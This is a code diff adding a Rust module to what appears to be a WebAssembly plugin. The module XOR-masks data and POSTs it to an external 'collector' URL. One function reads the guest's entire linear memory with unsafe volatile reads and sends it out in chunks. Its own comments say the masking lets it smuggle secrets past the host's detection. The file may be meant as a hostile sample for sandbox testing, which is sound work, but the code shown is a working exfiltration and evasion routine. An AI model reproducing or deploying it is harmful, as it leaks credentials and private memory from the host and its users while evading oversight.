@@ -1,0 +1,36 @@
+//! Tells a server everything that the guest has: a text, or its whole memory. Both in a form in
+//! which the host finds no secret, as a guest would do that wants to get one out.
+
+use pangolin_plugin_sdk::http::{Failure, Request};
+
+/// What every byte is changed by.
+const MASK: u8 = 0x5a;
+/// Below what one call of the host may copy.
+const PIECE: usize = 512 * 1024;
+/// Address zero is no place to read from.
+const FIRST: usize = 16;
+
+/// Sends bytes as one piece.
+pub(crate) fn tell(collector: &str, path: &str, bytes: &[u8]) -> Result<(), Failure> {
+    let masked: Vec<u8> = bytes.iter().map(|byte| byte ^ MASK).collect();
+    Request::new("POST", format!("{collector}/{path}")).body(masked).send().map(drop)
+}
+
+/// Sends all that the linear memory holds.
+pub(crate) fn tell_all(collector: &str) -> Result<(), Failure> {
+    // What is made on the way is not of interest.
+    let end = core::arch::wasm32::memory_size(0) * 65_536;
+    let mut at = FIRST;
+    while at < end {
+        let until = (at + PIECE).min(end);
+        tell(collector, "memory", &piece(at, until))?;
+        at = until;
+    }
+    Ok(())
+}
+
+#[expect(unsafe_code, reason = "it looks at everything that it can reach")]
+fn piece(from: usize, until: usize) -> Vec<u8> {
+    // SAFETY: the addresses lie in the linear memory, of which every byte can be read.
+    (from..until).map(|at| unsafe { std::ptr::read_volatile(at as *const u8) }).collect()
+}
